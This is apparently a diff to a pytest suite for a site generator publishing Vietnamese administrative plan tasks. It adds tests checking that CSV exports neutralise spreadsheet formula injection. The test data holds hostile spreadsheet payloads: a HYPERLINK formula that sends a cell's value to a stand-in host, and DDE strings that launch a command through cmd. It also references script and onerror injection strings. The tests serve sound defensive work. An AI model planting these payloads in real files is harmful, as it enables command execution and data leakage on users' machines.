@@ -82,6 +82,11 @@ def poison(project: Path) -> None:
     source = project / "content" / "sources" / "thu-nghiem-1-kh-ubnd-2021.txt"
     lines = source.read_text().split("\n")
     lines[13] = value("source.line")        # line 14, outside every task
+    # the task lines say what the plan file says (validation compares a task with its source lines)
+    lines[10] = (f"1.1. {t0['text']} Chủ trì: Sở Nội vụ. Phối hợp: Các sở, ban, ngành. Thời gian: {t0['deadline']}. "
+                 f"Sản phẩm: {t0['output']}.")
+    lines[11] = (f"1.2. Kiểm tra công tác CCHC. Chủ trì: {value('unresolved.name')}. Phối hợp: {value('written.alias')}. "
+                 "Thời gian: Năm 2022.")
     source.write_text("\n".join(lines))
 
 
@@ -213,5 +218,84 @@ def test_search_results_show_hostile_text_as_text(hostile_site, browser_context)
         assert "NHAN-TASK-TEXT" in results
         assert "<script>window.__pwned='script'" in results or "<img src=x onerror" in results
         assert_nothing_ran(watch)
+    finally:
+        page.close()
+
+
+# ---------------------------------------------------------------- downloads a spreadsheet opens
+
+FORMULAS = {
+    "text": '=HYPERLINK("http://x.example/?q="&A1,"bấm vào đây")',
+    "output": "+cmd|' /C calc'!A0",
+    "note": "-2+3+cmd|' /C calc'!A0",
+    "unresolved": "@SUM(1+1)*cmd|' /C calc'!A0",
+}
+
+
+@pytest.fixture(scope="module")
+def formula_site(tmp_path_factory):
+    project = tiny_project(tmp_path_factory.mktemp("formula"))
+    plan_path = project / "content" / PLAN
+    plan = yaml.safe_load(plan_path.read_text())
+    t0, t1 = plan["tasks"][0], plan["tasks"][1]
+    t0["text"], t0["output"], t0["note"] = FORMULAS["text"], FORMULAS["output"], FORMULAS["note"]
+    t1["lead"] = [{"name": FORMULAS["unresolved"], "unresolved": True}]
+    plan_path.write_text(yaml.safe_dump(plan, allow_unicode=True, sort_keys=False))
+    source = project / "content" / "sources" / "thu-nghiem-1-kh-ubnd-2021.txt"
+    lines = source.read_text().split("\n")           # the source says what the plan file says
+    lines[10] = f"1.1. {FORMULAS['text']} Chủ trì: Sở Nội vụ. Phối hợp: Các sở, ban, ngành. Thời gian: Quý IV/2021. Sản phẩm: {FORMULAS['output']}."
+    lines[11] = f"1.2. Kiểm tra công tác CCHC. Chủ trì: {FORMULAS['unresolved']}. Thời gian: Năm 2022."
+    source.write_text("\n".join(lines))
+    result = build(project)
+    assert result.returncode == 0, result.stderr
+    server, url = serve((project / "site").resolve())
+    yield project / "site", url
+    server.shutdown()
+
+
+def csv_rows(path: Path) -> list[dict]:
+    import csv
+    import io
+    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
+
+
+def test_every_csv_neutralises_formulas_and_keeps_numbers(formula_site):
+    site, _ = formula_site
+    plan_id = PLAN.split("/")[1][:-4]
+    tasks = {r["id"].split("/")[1]: r for r in csv_rows(site / "data" / "tasks.csv")}
+    listing = {r["id"].split("/")[1]: r for r in csv_rows(site / "data" / "csv" / "ke-hoach" / f"{plan_id}.csv")}
+    for rows in (tasks, listing):
+        assert rows["t-1.1"]["text"] == "'" + FORMULAS["text"]
+        assert rows["t-1.1"]["output"] == "'" + FORMULAS["output"]
+        assert rows["t-1.2"]["lead"] == "'" + FORMULAS["unresolved"]
+        assert rows["t-1.1"]["field"] == "1" and rows["t-1.1"]["source_lines"] == "11-11"   # numbers stay numbers
+    written = [r["written"] for r in csv_rows(site / "data" / "assignments.csv")]
+    assert "'" + FORMULAS["unresolved"] in written and FORMULAS["unresolved"] not in written
+    # no cell of any CSV the site offers starts a formula
+    for path in site.rglob("*.csv"):
+        for row in csv_rows(path):
+            for col, cell in row.items():
+                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (path.name, col, cell)
+                assert not cell.startswith("-") or cell.lstrip("-").replace(".", "").isdigit(), (path.name, col, cell)
+    # the JSON keeps the text as written
+    import json
+    records = {t["id"].split("/")[1]: t for t in json.loads((site / "data" / "tasks.json").read_text(encoding="utf-8"))}
+    assert records["t-1.1"]["text"] == FORMULAS["text"]
+
+
+def test_the_finders_csv_neutralises_formulas(formula_site, browser_context):
+    site, url = formula_site
+    watch = open_watched(browser_context, url + "tim-nhiem-vu/")
+    page = watch.page
+    try:
+        page.wait_for_selector("#finder[data-ready='1']", timeout=30_000)
+        with page.expect_download() as info:
+            page.click(".finder-download")
+        rows = {r["id"].split("/")[1]: r for r in csv_rows(Path(info.value.path()))}
+        assert rows["t-1.1"]["nhiem_vu"] == "'" + FORMULAS["text"]
+        assert rows["t-1.1"]["san_pham"] == "'" + FORMULAS["output"]
+        assert rows["t-1.2"]["chu_tri"] == "'" + FORMULAS["unresolved"]
+        assert rows["t-1.1"]["linh_vuc"] == "1"
+        assert watch.dialogs == [] and watch.page_errors == []
     finally:
         page.close()
